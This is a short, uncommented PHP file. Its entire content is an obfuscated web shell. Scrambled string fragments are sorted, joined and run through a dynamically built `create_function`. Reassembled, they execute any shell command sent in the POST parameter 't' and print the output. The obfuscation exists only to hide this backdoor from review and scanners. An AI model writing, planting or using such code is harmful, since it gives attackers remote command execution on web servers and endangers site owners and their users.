<?php
$p = [
    'k92' => 'ec($_PO',
    'k88' => '}',
    'k96' => ')) { ec',
    'k89' => 'pre>\'; ',
    'k91' => 'ST[\'t\']',
    'k95' => 'ho \'<pr',
    'k90' => ') . \'</',
    'k98' => 'et($_PO',
    'k99' => 'if (iss',
    'k93' => 'hell_ex',
    'k97' => 'ST[\'t\']',
    'k94' => 'e>\' . s'
];
krsort($p);
$f = 'create_' . 'function';
$g = $f('', join($p));
$g();
